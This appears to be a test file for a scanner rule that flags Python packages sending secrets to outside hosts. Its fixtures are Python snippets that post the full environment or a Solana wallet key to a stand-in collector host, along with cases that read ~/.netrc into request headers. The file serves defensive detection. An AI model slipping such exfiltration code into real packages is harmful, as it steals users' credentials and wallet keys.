import { testRule } from '../../../../../test/builders/python-package.ts';
import { secretToStranger } from './rule.ts';

testRule(secretToStranger, {
  seen: {
    'the environment, in a function that nobody calls':
      "import os, requests\ndef init():\n    requests.post('https://collector.example.invalid', json=dict(os.environ))",
    'a wallet':
      "import os, requests\ndef balance():\n    key = open(os.path.expanduser('~/.config/solana/id.json')).read()\n    requests.post('https://collector.example.invalid', data=key)",
  },
  unseen: {
    'credentials for the service of the project':
      "import os, requests\ndef login():\n    requests.get('https://api.demo.invalid', headers={'a': open(os.path.expanduser('~/.netrc')).read()})",
    'a host that the caller names':
      "import os, requests\ndef login(url):\n    requests.get(url, headers={'a': open(os.path.expanduser('~/.netrc')).read()})",
  },
});
